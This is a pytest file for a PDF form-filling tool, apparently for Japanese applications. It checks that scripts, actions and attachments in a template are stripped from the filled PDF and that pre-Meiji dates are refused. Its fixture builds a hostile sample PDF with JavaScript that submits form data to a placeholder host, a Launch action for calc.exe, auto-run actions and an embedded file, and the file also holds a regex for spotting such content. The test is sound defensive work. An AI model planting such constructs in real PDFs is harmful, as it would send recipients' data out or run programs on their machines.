"""Issue 23 (items 3 and 13) for `form fill` / `form validate`: a template's active content never
reaches the filled PDF, and a date the form cannot print is refused by `validate`, not a crash in
`fill`."""

from __future__ import annotations

import datetime as dt
import json
import re
from pathlib import Path

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from forms.cli import main
from forms.render import render_blank

# PDF names of active content, whole (a font's subset tag /AAAAAA+IPAexGothic is no /AA).
ACTIVE = re.compile(rb"/(JavaScript|JS|OpenAction|SubmitForm|Launch|EmbeddedFiles?|AA|URI|"
                    rb"FileAttachment)(?![A-Za-z0-9+])")


def _applicant(day: dt.date) -> dict[str, object]:
    """A made-up adult Japanese national applying on ``day`` (a valid check digit)."""
    return {"individual_number": "123456789018", "name": "テスト 太郎",
            "address": "東京都千代田区霞が関2-1-2", "date_of_birth": "1990-04-12",
            "sex": "male", "application_date": day.isoformat()}


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"),
                               NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value  # type: ignore[assignment]
    return action


def _annotation(subtype: str, action: DictionaryObject | None = None) -> DictionaryObject:
    annot = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (20, 20, 80, 40)])})
    if action is not None:
        annot[NameObject("/A")] = action
    return annot


def active_template(path: Path) -> Path:
    """The project's blank form carrying every kind of active content a PDF can hold."""
    writer = PdfWriter(clone_from=PdfReader(str(_blank(path.parent))))
    script = _action("/JavaScript", JS=TextStringObject("app.alert('hi')"))
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(script)
    writer.add_attachment("payload.txt", b"not for the applicant")
    names = writer._root_object["/Names"].get_object()  # made by add_attachment
    submit = _action("/JavaScript", JS=TextStringObject(
        "this.submitForm('https://example.invalid/collect');"))
    names[NameObject("/JavaScript")] = DictionaryObject({NameObject("/Names"): ArrayObject(
        [TextStringObject("doc"), writer._add_object(submit)])})
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action(
        "/JavaScript", JS=TextStringObject("app.launchURL('https://example.invalid')"))})
    annots = [
        _annotation("/Link", _action("/SubmitForm", F=TextStringObject("https://example.invalid"))),
        _annotation("/Link", _action("/Launch", F=TextStringObject("calc.exe"))),
        _annotation("/Link", _action("/URI", URI=TextStringObject("https://example.invalid"))),
        _annotation("/FileAttachment"),
    ]
    page[NameObject("/Annots")] = ArrayObject(writer._add_object(a) for a in annots)
    with path.open("wb") as handle:
        writer.write(handle)
    return path


def _blank(folder: Path) -> Path:
    blank = folder / "blank.pdf"
    blank.write_bytes(render_blank())
    return blank


def test_template_scripts_actions_and_files_never_reach_the_filled_pdf(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Defect: the filled PDF was a clone of the template, its JavaScript, OpenAction, page
    actions, submit/launch links and embedded files included."""
    template = active_template(tmp_path / "active.pdf")
    found = set(ACTIVE.findall(template.read_bytes()))
    assert {b"JavaScript", b"OpenAction", b"SubmitForm", b"Launch", b"AA", b"URI"} <= found
    data = tmp_path / "me.json"
    today = dt.date.today()
    data.write_text(json.dumps(_applicant(today), ensure_ascii=False), encoding="utf-8")
    out = tmp_path / "filled.pdf"
    code = main(["form", "fill", str(data), "--template", str(template), "-o", str(out),
                 "--lang", "en", "--today", today.isoformat()])
    assert code == 0, capsys.readouterr().err
    assert "scripts, actions, attached files" in capsys.readouterr().err
    filled = out.read_bytes()
    assert ACTIVE.findall(filled) == []
    reader = PdfReader(str(out))
    assert not set(reader.trailer["/Root"]) & {"/OpenAction", "/Names", "/AA", "/AcroForm"}
    for page in reader.pages:
        assert "/AA" not in page and "/Annots" not in page
    assert len(reader.pages) == 2  # the form and its instructions are all still there


def test_a_clean_template_gets_no_note(tmp_path: Path,
                                       capsys: pytest.CaptureFixture[str]) -> None:
    data = tmp_path / "me.json"
    today = dt.date.today()
    data.write_text(json.dumps(_applicant(today), ensure_ascii=False), encoding="utf-8")
    out = tmp_path / "filled.pdf"
    assert main(["form", "fill", str(data), "--template", str(_blank(tmp_path)), "-o", str(out),
                 "--lang", "en"]) == 0
    assert "scripts, actions" not in capsys.readouterr().err


@pytest.mark.parametrize("key, value", [("date_of_birth", "1000-01-01"),
                                        ("date_of_birth", "1867-12-31"),
                                        ("residence_expiry_date", "0999-05-05")])
def test_validate_refuses_a_date_fill_cannot_print(tmp_path: Path, key: str, value: str,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    """Defect: `form validate` said valid for 1000-01-01 and `form fill` then exited 3 (the
    form prints every date in the Japanese era, which starts with Meiji, 1868)."""
    raw = _applicant(dt.date.today())
    if key == "residence_expiry_date":
        raw |= {"foreign_resident_category": "mid_long_term", "residence_expiry_listed": True}
    raw[key] = value
    data = tmp_path / "me.json"
    data.write_text(json.dumps(raw, ensure_ascii=False), encoding="utf-8")
    assert main(["form", "validate", str(data), "--lang", "ja"]) == 2
    err = capsys.readouterr().err
    assert f"{key}：" in err and "明治（1868年）より前" in err and "Traceback" not in err
    out = tmp_path / "x.pdf"
    assert main(["form", "fill", str(data), "-o", str(out), "--lang", "en"]) == 2
    assert "before the Meiji era" in capsys.readouterr().err and not out.exists()
